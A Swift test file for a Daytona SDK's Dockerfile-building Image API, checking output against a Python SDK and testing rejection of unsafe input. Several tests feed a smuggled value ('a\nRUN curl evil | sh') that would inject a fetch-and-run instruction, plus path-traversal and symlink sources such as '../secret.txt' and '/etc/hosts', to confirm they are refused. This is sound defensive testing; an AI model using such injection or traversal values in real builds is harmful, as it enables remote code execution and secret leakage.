import Foundation
import Testing

@testable import DaytonaImage
@testable import DaytonaJSON
@testable import DaytonaSystem

/// runCommands, env, workdir, entrypoint, cmd, dockerfileCommands and fromDockerfile.
///
/// Expected
/// texts are the Python SDK 0.226.1's output for the same calls, except where D1, D3, D4 and
/// D5 of shared/conformance/README.md say otherwise (marked).
@Suite struct ImageInstructionsTests {
    // MARK: runCommands

    @Test func runCommandsWritesShellAndArgumentForms() throws {
        // Python: .run_commands("echo hello", ["bash", "-c", "echo \"hi\" 'there'"], "a 'b' \"c\"")
        let image = try Image.base("alpine").runCommands(
            "echo hello",
            ["bash", "-c", "echo \"hi\" 'there'"],
            "a 'b' \"c\""
        )
        #expect(
            image.dockerfile
                == "FROM alpine\nRUN echo hello\nRUN \"bash\" \"-c\" \"echo \\\\\\\"hi\\\\\\\" \\'there\\'\"\nRUN a 'b' \"c\"\n"
        )
    }

    @Test func runCommandsArrayFormAndEnumCases() throws {
        let viaArray = try Image.base("alpine").runCommands([.shell("ls"), .arguments(["a", "b c"])])
        #expect(viaArray.dockerfile == "FROM alpine\nRUN ls\nRUN \"a\" \"b c\"\n")
        #expect(try Image.base("alpine").runCommands([]).dockerfile == "FROM alpine\n")
        #expect(try Image.base("alpine").runCommands(.arguments([])).dockerfile == "FROM alpine\nRUN \n")
    }

    @Test(arguments: ["a\nRUN curl evil | sh", "\r", "x\r\n", "\n"])
    func runCommandsRefusesALineBreakInAnArgument(argument: String) {
        // D7: the Python SDK writes `RUN "a` and then a second instruction `RUN curl evil | sh" "x"`.
        let error = failure(DaytonaBadRequestError.self) {
            try Image.base("alpine").runCommands("echo ok", [argument, "x"])
        }
        #expect(
            error
                == "argument run_commands[1][0] holds a line break, which would start a new instruction: "
                + PythonText.repr(argument)
        )
        let later = failure(DaytonaBadRequestError.self) {
            try Image.base("alpine").runCommands(["ok", "fine"], .arguments(["y", argument]))
        }
        #expect(later?.contains("run_commands[1][1]") == true)
    }

    @Test func runCommandsKeepsAPlainStringVerbatimLineBreaksIncluded() throws {
        // As in the Python SDK: a shell string is the caller's own Dockerfile text. Strings alone
        // take the non-throwing overload; mixed with a list, the checked one.
        let image = Image.base("alpine").runCommands("echo a \\\n  && echo b", "x\nRUN y")
        #expect(image.dockerfile == "FROM alpine\nRUN echo a \\\n  && echo b\nRUN x\nRUN y\n")
        let mixed = try Image.base("alpine").runCommands("x\nRUN y", ["echo", "z"])
        #expect(mixed.dockerfile == "FROM alpine\nRUN x\nRUN y\nRUN \"echo\" \"z\"\n")
    }

    @Test func runCommandsErrorIsLocatedInARecipe() throws {
        let text = "steps:\n- base: alpine\n- run_commands: [[\"a\\nRUN curl evil | sh\", \"x\"]]\n"
        do {
            _ = try Image(recipeText: text, workingDirectory: "/nonexistent", homeDirectory: "/h")
            Issue.record("no error")
        } catch let error as DaytonaBadRequestError {
            #expect(error.location.stepIndex == 1)
            #expect(error.location.stepName == "run_commands")
            #expect(error.location.key == "run_commands[0][0]")
            #expect(
                error.message
                    == "steps[1] (run_commands): argument run_commands[0][0] holds a line break, which would start "
                    + "a new instruction: 'a\\nRUN curl evil | sh'"
            )
        }
    }

    // MARK: env

    @Test func envKeepsOrderAndShellQuotesValues() throws {
        // Python: .env({"B": "x y", "A": "1", "C": "it's", "D": ""})
        let image = try Image.base("alpine").env(["B": "x y", "A": "1", "C": "it's", "D": ""])
        #expect(image.dockerfile == "FROM alpine\nENV B='x y'\nENV A=1\nENV C='it'\"'\"'s'\nENV D=''\n")
        let pairs = try Image.base("alpine").env([("Z", "1"), ("A", "/p:/q")])
        #expect(pairs.dockerfile == "FROM alpine\nENV Z=1\nENV A=/p:/q\n")
    }

    @Test(arguments: ["", "A B", "A=B", "A\nB", "A\r", "\tA", "A\u{A0}"])
    func envRefusesBadKeys(key: String) {
        // D4: the Python SDK writes `ENV A B=…` etc.
        let message = failure(DaytonaBadRequestError.self) { try Image.base("alpine").env([("OK", "1"), (key, "v")]) }
        #expect(
            message
                == "Invalid environment variable name \(PythonText.repr(key)): it must be non-empty, without white space or '='"
        )
    }

    @Test(arguments: ["a\nb", "\r", "x\r\n"])
    func envRefusesLineBreaksInValuesAndWritesNothing(value: String) {
        // D4
        let message = failure(DaytonaBadRequestError.self) { try Image.base("alpine").env(["OK": "1", "K": value]) }
        #expect(message == "Environment variable K has a value with a line break: \(PythonText.repr(value))")
    }

    @Test func envValueMayHoldOtherWhitespace() throws {
        #expect(try Image.base("a").env(["K": "a\tb"]).dockerfile == "FROM a\nENV K='a\tb'\n")
    }

    // MARK: workdir

    @Test func workdirIsShellQuoted() throws {
        #expect(try Image.base("alpine").workdir("/home/daytona").dockerfile == "FROM alpine\nWORKDIR /home/daytona\n")
        #expect(try Image.base("alpine").workdir("/home/my dir").dockerfile == "FROM alpine\nWORKDIR '/home/my dir'\n")
        #expect(try Image.base("alpine").workdir("").dockerfile == "FROM alpine\nWORKDIR ''\n")
    }

    @Test(arguments: ["/a\nb", "/a\r"])
    func workdirRefusesLineBreaks(path: String) {
        // D4
        #expect(
            failure(DaytonaBadRequestError.self) { try Image.base("alpine").workdir(path) }
                == "Working directory holds a line break: \(PythonText.repr(path))"
        )
    }

    // MARK: entrypoint / cmd

    @Test func entrypointAndCmdWriteJSONArrays() {
        #expect(
            Image.base("a").entrypoint(["/bin/bash", "-c"]).dockerfile == "FROM a\nENTRYPOINT [\"/bin/bash\", \"-c\"]\n"
        )
        #expect(Image.base("a").cmd(["é", "a b"]).dockerfile == "FROM a\nCMD [\"é\", \"a b\"]\n")
        #expect(Image.base("a").cmd([]).dockerfile == "FROM a\nCMD []\n")
        #expect(Image.base("a").entrypoint([]).dockerfile == "FROM a\nENTRYPOINT []\n")
    }

    @Test func entrypointAndCmdEscapeAsJSONStrings() {
        // D1: the Python SDK writes the raw text ("say "hi"").
        let arguments = ["say \"hi\"", "a\\b", "\n\t\r\u{08}\u{0C}\u{1B}\u{00}\u{1F}", "é😀/"]
        let expected = #"["say \"hi\"", "a\\b", "\n\t\r\b\f\u001b\u0000\u001f", "é😀/"]"#
        #expect(Image.base("a").entrypoint(arguments).dockerfile == "FROM a\nENTRYPOINT \(expected)\n")
        #expect(Image.base("a").cmd(arguments).dockerfile == "FROM a\nCMD \(expected)\n")
        #expect(JSONText.string("\u{7F}\u{85}") == "\"\u{7F}\u{85}\"")
    }

    // MARK: dockerfileCommands

    @Test func dockerfileCommandsWithoutContextDirUseTheWorkingFolder() throws {
        let folder = try TestFolder()
        try folder.file("one.txt")
        let image = try folder.base().dockerfileCommands(
            ["RUN echo 'Hello, world!'", "COPY one.txt /x"],
            contextDir: nil
        )
        #expect(image.dockerfile == "FROM alpine\nRUN echo 'Hello, world!'\nCOPY one.txt /x\n")
        #expect(pairs(image) == [["one.txt", "one.txt"]])
    }

    @Test func dockerfileCommandsEmptyListWritesAnEmptyLine() throws {
        #expect(try Image.base("alpine").dockerfileCommands([]).dockerfile == "FROM alpine\n\n")
    }

    @Test func contextDirWithoutSlashGivesArchivePathsWithALeadingSlash() throws {
        let folder = try TestFolder()
        try folder.file("ctx/one.txt")
        try folder.file("ctx/two.txt")
        let plain = try folder.base().dockerfileCommands(["COPY one.txt two.txt /x"], contextDir: "ctx")
        #expect(pairs(plain) == [["ctx/one.txt", "/one.txt"], ["ctx/two.txt", "/two.txt"]])
        let slash = try folder.base().dockerfileCommands(["COPY one.txt two.txt /x"], contextDir: "ctx/")
        #expect(pairs(slash) == [["ctx/one.txt", "one.txt"], ["ctx/two.txt", "two.txt"]])
        #expect(slash.dockerfile == "FROM alpine\nCOPY one.txt two.txt /x\n")
    }

    @Test func contextDirErrors() throws {
        let folder = try TestFolder()
        try folder.file("file.txt")
        #expect(
            failure(DaytonaNotFoundError.self) {
                try folder.base().dockerfileCommands(["RUN x"], contextDir: "missing")
            }
                == "Context directory missing does not exist"
        )
        #expect(
            failure(DaytonaBadRequestError.self) {
                try folder.base().dockerfileCommands(["RUN x"], contextDir: "file.txt")
            }
                == "Context path file.txt exists but is not a directory"
        )
    }

    @Test func strictContextRequiresAContextDir() throws {
        let message = "strict_context requires context_dir so that the build context boundary is explicit"
        #expect(
            failure(DaytonaBadRequestError.self) {
                try Image.base("a").dockerfileCommands(["COPY one.txt /x"], strictContext: true)
            } == message
        )
        #expect(
            failure(DaytonaBadRequestError.self) {
                try Image.base("a").dockerfileCommands(["RUN x"], contextDir: "", strictContext: true)
            } == message
        )
    }

    // Python's messages; shlex.split drops the backslash in `C:\\x`, the JSON form keeps it.
    @Test(arguments: [
        ("COPY ../package.json /x", "../package.json"), ("COPY /etc/hosts /x", "/etc/hosts"), ("COPY .. /x", ".."),
        ("COPY a/../../x /x", "a/../../x"), ("COPY C:\\x /x", "C:x"), ("COPY c:x /x", "c:x"),
        (#"COPY ["..\\secret.txt", "/x"]"#, "..\\secret.txt"),
    ])
    func strictContextRefusesSourcesOutsideByTheirText(line: String, source: String) throws {
        let folder = try TestFolder()
        try folder.folder("ctx")
        let message = failure(DaytonaBadRequestError.self) {
            try folder.base().dockerfileCommands([line], contextDir: "ctx", strictContext: true)
        }
        #expect(message == "forbidden path outside the build context: \(source)")
    }

    @Test func backslashSourceInShellFormIsNotOutside() throws {
        // Python: shlex.split turns `..\\secret.txt` into `..secret.txt`, which is inside.
        let folder = try TestFolder()
        try folder.folder("ctx")
        let image = try folder.base().dockerfileCommands(
            ["COPY ..\\secret.txt /x"],
            contextDir: "ctx/",
            strictContext: true
        )
        #expect(pairs(image) == [["ctx/..secret.txt", "..secret.txt"]])
    }

    @Test func strictContextRefusesLinksThatLeaveTheContext() throws {
        let folder = try TestFolder()
        try folder.file("secret.txt")
        try folder.file("ctx/one.txt")
        try folder.link("ctx/leak.txt", to: "../secret.txt")
        let ok = try folder.base().dockerfileCommands(["COPY one.txt /x"], contextDir: "ctx", strictContext: true)
        #expect(pairs(ok) == [["ctx/one.txt", "/one.txt"]])
        let message = failure(DaytonaBadRequestError.self) {
            try folder.base().dockerfileCommands(["COPY leak.txt /x"], contextDir: "ctx", strictContext: true)
        }
        #expect(message == "forbidden path outside the build context: \(folder.url("secret.txt"))")
        // Without strictContext the link is an ordinary source.
        let loose = try folder.base().dockerfileCommands(["COPY leak.txt /x"], contextDir: "ctx/")
        #expect(pairs(loose) == [["ctx/leak.txt", "leak.txt"]])
    }

    @Test func heredocBodiesInDockerfileCommandsMakeNoContexts() throws {
        // D5: the Python SDK would add a.txt from the body.
        let folder = try TestFolder()
        try folder.file("c/a.txt")
        try folder.file("c/b.txt")
        let commands = ["RUN <<EOF", "COPY a.txt /x", "EOF", "COPY b.txt /y"]
        let image = try folder.base().dockerfileCommands(commands, contextDir: "c/")
        #expect(pairs(image) == [["c/b.txt", "b.txt"]])
        #expect(image.dockerfile == "FROM alpine\n" + commands.joined(separator: "\n") + "\n")
    }

    @Test func severalHeredocsOnOneLineOpenBodiesInTurn() throws {
        let folder = try TestFolder()
        for name in ["x", "y", "z", "w"] { try folder.file("c/\(name)") }
        let commands = [
            "RUN <<A cat - <<'B'", "COPY x /1", "A", "COPY y /2", "B", "COPY z /3", "RUN <<-\"C\"", "\t\tC",
            "COPY w /4",
        ]
        let image = try folder.base().dockerfileCommands(commands, contextDir: "c/")
        #expect(pairs(image) == [["c/z", "z"], ["c/w", "w"]])
        let unclosed = try folder.base().dockerfileCommands(["COPY x /1", "RUN <<EOF", "COPY y /2"], contextDir: "c/")
        #expect(pairs(unclosed) == [["c/x", "x"]])
        // A comment line does not open a heredoc.
        let comment = try folder.base().dockerfileCommands(["# <<EOF", "COPY y /2"], contextDir: "c/")
        #expect(pairs(comment) == [["c/y", "y"]])
    }

    // MARK: fromDockerfile

    @Test func fromDockerfileTurnsCRLFIntoLF() throws {
        let folder = try TestFolder()
        try folder.file("d/a.txt")
        try folder.file("d/crlf", "FROM alpine\r\nCOPY a.txt /a\r\n")
        let image = try folder.fromDockerfile("d/crlf")
        #expect(image.dockerfile == "FROM alpine\nCOPY a.txt /a\n")
        #expect(pairs(image) == [["d/a.txt", "a.txt"]])
    }

    @Test func fromDockerfileAddsAMissingFinalNewline() throws {
        // D3: the Python SDK keeps 'FROM alpine\nCOPY a.txt /a'.
        let folder = try TestFolder()
        try folder.file("d/a.txt")
        try folder.file("d/nonl", "FROM alpine\nCOPY a.txt /a")
        let image = try folder.fromDockerfile("d/nonl")
        #expect(image.dockerfile == "FROM alpine\nCOPY a.txt /a\n")
        let next = try image.workdir("/w")
        #expect(next.dockerfile == "FROM alpine\nCOPY a.txt /a\nWORKDIR /w\n")
        try folder.file("d/cr", "FROM alpine\r")
        #expect(try folder.fromDockerfile("d/cr").dockerfile == "FROM alpine\n")
    }

    @Test func fromDockerfileEmptyFileStaysEmpty() throws {
        let folder = try TestFolder()
        try folder.file("empty", "")
        let image = try folder.fromDockerfile("empty")
        #expect(image.dockerfile == "")
        #expect(image.contextList.isEmpty)
    }

    @Test func fromDockerfileErrors() throws {
        let folder = try TestFolder()
        try folder.folder("d")
        try folder.bytes("latin1", [0x46, 0x52, 0x4F, 0x4D, 0x20, 0xE9, 0x0A])
        #expect(
            failure(DaytonaNotFoundError.self) { try folder.fromDockerfile("d/missing") }
                == "Dockerfile d/missing does not exist"
        )
        #expect(
            failure(DaytonaBadRequestError.self) { try folder.fromDockerfile("d/") }
                == "Dockerfile path d exists but is not a file"
        )
        #expect(
            failure(DaytonaBadRequestError.self) { try folder.fromDockerfile("latin1") }
                == "Dockerfile latin1 is not valid UTF-8 text"
        )
    }

    @Test func fromDockerfileReadsEveryCopyForm() throws {
        let folder = try TestFolder()
        try folder.file("d/a.txt")
        try folder.file("d/b.txt")
        try folder.file("d/sub/s.txt")
        let absolute = try folder.file("abs.txt")
        let text = """
            FROM alpine
            # COPY commented.txt /x
            COPY --chown=1:1 --chmod=644 a.txt /a
            COPY --chown 1:1 b.txt /b
            COPY --from=build /x /y
            COPY b.txt --from=x /y
            COPY <<EOF2 /inline
            COPY sub/s.txt /heredoc
            EOF2
            RUN <<-"END"
            \tCOPY a.txt /nope
            \tEND
            COPY ["sub/s.txt", "/j"]
            copy a.txt /lower
            ADD b.txt /add
            COPY a.txt \\
              b.txt /cont
            COPY nothing*.txt /n
            COPY \(absolute) /abs
            COPY a.txt /x # trailing comment
            COPY s[!x]b /sb
            COPY **/s.txt /dd

            """
        try folder.file("d/Dockerfile", text)
        let image = try folder.fromDockerfile("d/Dockerfile")
        #expect(image.dockerfile == text)
        // The Python SDK's list, without its two heredoc-body entries (D5).
        #expect(
            pairs(image) == [
                ["d/a.txt", "a.txt"], ["d/1:1", "1:1"], ["d/b.txt", "b.txt"],
                ["d/sub/s.txt", "sub/s.txt"], ["d/a.txt", "a.txt"],
                ["d/a.txt", "a.txt"], ["d/b.txt", "b.txt"],
                ["d/nothing*.txt", "nothing*.txt"], [absolute, absolute],
                ["d/a.txt", "a.txt"], ["/x", "/x"], ["d/#", "#"], ["d/trailing", "trailing"],
                ["d/sub", "sub"], ["d/sub/s.txt", "sub/s.txt"],
            ]
        )
    }

    @Test func fromDockerfileGlobsSkipDotFilesAndBracketsArePatterns() throws {
        let folder = try TestFolder()
        try folder.file("d/a.txt")
        try folder.file("d/b.txt")
        try folder.file("d/.h.txt")
        try folder.file("d/weird[1].txt")
        try folder.file("d/Dockerfile", "FROM a\nCOPY *.txt /g\n")
        let image = try folder.fromDockerfile("d/Dockerfile")
        #expect(
            sortedPairs(image) == [["d/a.txt", "a.txt"], ["d/b.txt", "b.txt"], ["d/weird[1].txt", "weird[1].txt"]]
        )
        try folder.file("d/D2", "FROM a\nCOPY .*.txt /g\nCOPY weird[1].txt /w\nCOPY w*[1]* /v\n")
        // `weird[1].txt` does not match itself, so it is kept as written; `w*[1]*` matches it.
        #expect(
            pairs(try folder.fromDockerfile("d/D2")) == [
                ["d/.h.txt", ".h.txt"], ["d/weird[1].txt", "weird[1].txt"], ["d/weird[1].txt", "weird[1].txt"],
            ]
        )
    }

    @Test func fromDockerfileInTheWorkingFolderHasNoPrefix() throws {
        let folder = try TestFolder()
        try folder.file("a.txt")
        try folder.file("Dockerfile", "FROM a\nCOPY a.txt /a\n")
        #expect(pairs(try folder.fromDockerfile("Dockerfile")) == [["a.txt", "a.txt"]])
        #expect(pairs(try folder.fromDockerfile("./Dockerfile")) == [["a.txt", "a.txt"]])
    }

    @Test func fromDockerfileStrictContext() throws {
        let folder = try TestFolder()
        try folder.file("d/a.txt")
        try folder.file("secret.txt")
        try folder.link("d/leak", to: "../secret.txt")
        try folder.file("d/ok", "FROM a\nCOPY a.txt /a\n")
        try folder.file("d/up", "FROM a\nCOPY ../secret.txt /a\n")
        try folder.file("d/link", "FROM a\nCOPY leak /a\n")
        #expect(pairs(try folder.fromDockerfile("d/ok", strictContext: true)) == [["d/a.txt", "a.txt"]])
        #expect(
            failure(DaytonaBadRequestError.self) { try folder.fromDockerfile("d/up", strictContext: true) }
                == "forbidden path outside the build context: ../secret.txt"
        )
        #expect(
            failure(DaytonaBadRequestError.self) { try folder.fromDockerfile("d/link", strictContext: true) }
                == "forbidden path outside the build context: \(folder.url("secret.txt"))"
        )
        #expect(pairs(try folder.fromDockerfile("d/up")) == [["d/../secret.txt", "../secret.txt"]])
    }

    @Test func fromDockerfileExpandsTilde() throws {
        let folder = try TestFolder()
        try folder.file("home/x.txt")
        try folder.file("home/Dockerfile", "FROM a\nCOPY x.txt /x\n")
        let image = try folder.fromDockerfile("~/Dockerfile", in: "elsewhere")
        let home = folder.url("home")
        #expect(pairs(image) == [[home + "/x.txt", "x.txt"]])
    }
}
